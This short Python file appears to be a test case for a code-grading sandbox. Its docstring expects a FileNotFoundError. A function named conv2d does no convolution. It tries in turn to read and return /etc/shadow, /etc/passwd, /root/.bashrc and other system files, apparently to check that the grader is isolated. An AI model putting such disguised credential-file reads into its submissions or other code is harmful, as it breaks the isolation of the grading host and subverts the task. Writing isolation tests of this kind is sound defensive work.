"""Reads what only the grader's user should read.

Expected: exception: FileNotFoundError: [Errno 2]
"""

PLACES = ("/etc/shadow", "/etc/passwd", "/root/.bashrc", "/home", "/var/log", "/run", "/srv", "/proc/version")


def conv2d(x, kernel):
    for place in PLACES:
        try:
            return open(place).read()
        except FileNotFoundError as error:
            last = error
    raise last
